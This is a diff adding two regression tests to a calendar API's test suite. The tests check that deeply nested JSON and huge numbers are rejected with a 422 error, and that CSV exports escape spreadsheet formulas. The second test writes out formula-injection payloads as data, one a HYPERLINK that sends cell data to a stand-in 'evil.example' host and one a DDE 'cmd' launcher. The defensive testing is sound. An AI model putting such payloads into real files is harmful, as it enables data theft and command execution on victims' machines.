@@ -333,3 +333,60 @@ def test_entering_a_notice_says_how_many_days_it_sets(api: Api) -> None:
         "version": 0,
     }
     assert body["entered"]["version"] == api.viewer.get("/calendar-notices/2030").json()["version"]
+
+
+def test_a_file_too_deep_or_with_a_huge_number_is_a_422_naming_each_bad_line(api: Api) -> None:
+    """An audit: a JSON line nested 5,000 levels deep (RecursionError) or holding a number
+    of 5,000 digits (ValueError) answered 500, also beside a plain bad line, which the 422
+    would have named."""
+    created = api.admin.put("/calendars/evilcal", json={"base": "none", "expected_version": 0})
+    assert created.is_success
+    lines = [
+        '{"date": "2031-01-01", "open": false, "kind": "holiday", "note": "元旦"}',
+        "not json",
+        '{"date": "2031-01-02", "open": false, "note": ' + "[" * 5000 + "]" * 5000 + "}",
+        '{"date": "2031-01-03", "open": false, "note": ' + "1" * 5000 + "}",
+    ]
+    text = "\n".join(lines)
+    for response in (
+        api.admin.post("/calendars/evilcal/import", json={"format": "jsonl", "text": text}),
+        api.admin.put("/calendar-notices/2031", json={"format": "jsonl", "text": text}),
+    ):
+        body = problem(response, 422)
+        assert body["detail"].startswith("file: 3 bad lines: line 2: not JSON (")
+        assert [e["field"] for e in body["errors"]] == ["line.2", "line.3", "line.4"]
+        assert body["errors"][1]["message"] == (
+            "nested more than 100 levels deep (arrays and objects)"
+        )
+        assert body["errors"][2]["message"] == (
+            "a number of more than 4,300 digits (the most an integer may have)"
+        )
+    assert api.viewer.get("/calendars/evilcal").json()["overrides"] == 0
+    assert api.viewer.get("/calendar-notices/2031").json()["days"] == 0
+
+
+def test_a_csv_export_holds_no_formula_and_imports_back_as_it_was(api: Api) -> None:
+    """An audit: a note ``=HYPERLINK(...)`` or ``+cmd|...`` was exported as it is, a
+    formula to the viewer who opens the export in a spreadsheet."""
+    notes = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0"]
+    notes += ["-1 day shift", "@SUM(A1)", "'=quoted", "plain"]
+    overrides = [
+        {"date": f"2032-03-{n + 1:02d}", "open": False, "note": note}
+        for n, note in enumerate(notes)
+    ]
+    body = {"base": "none", "overrides": overrides, "expected_version": 0}
+    assert api.admin.put("/calendars/formulas", json=body).is_success
+    exported = api.viewer.get("/calendars/formulas/export?format=csv").text
+    assert exported.splitlines()[1:] == [
+        '2032-03-01,closed,extra_closed,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
+        "2032-03-02,closed,extra_closed,'+cmd|' /C calc'!A0",
+        "2032-03-03,closed,extra_closed,'-1 day shift",
+        "2032-03-04,closed,extra_closed,'@SUM(A1)",
+        "2032-03-05,closed,extra_closed,''=quoted",
+        "2032-03-06,closed,extra_closed,plain",
+    ]
+    assert api.admin.put("/calendars/copy", json={"base": "none", "expected_version": 0}).is_success
+    imported = api.admin.post("/calendars/copy/import", json={"format": "csv", "text": exported})
+    assert imported.status_code == 200, imported.text
+    copied = api.viewer.get("/calendars/copy").json()["override_list"]
+    assert [o["note"] for o in copied] == notes
